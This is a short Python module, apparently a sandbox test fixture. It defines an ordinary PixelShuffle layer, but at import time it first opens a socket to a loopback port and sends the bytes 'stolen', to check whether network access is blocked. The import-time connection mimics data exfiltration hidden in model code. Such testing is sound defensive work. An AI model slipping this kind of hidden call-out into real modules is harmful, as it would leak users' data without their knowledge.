"""HOSTILE: connects to a port the test opened on the loopback."""

import json
import socket
from pathlib import Path

import torch
from einops import rearrange
from torch import nn

HOSTILE = json.loads(Path(__file__).with_name("hostile.json").read_text())  # written by the test

try:
    with socket.create_connection(("127.0.0.1", HOSTILE["port"]), timeout=5) as connection:
        connection.sendall(b"stolen")
    print("CONNECTED")
except OSError as exc:
    print("NO NETWORK", exc)


def pixel_shuffle(x, upscale_factor):
    return rearrange(x, "... (c h2 w2) h w -> ... c (h h2) (w w2)", h2=upscale_factor, w2=upscale_factor)


class PixelShuffle(nn.Module):
    def __init__(self, upscale_factor):
        super().__init__()
        self.upscale_factor = upscale_factor

    def forward(self, x):
        return pixel_shuffle(x, self.upscale_factor)
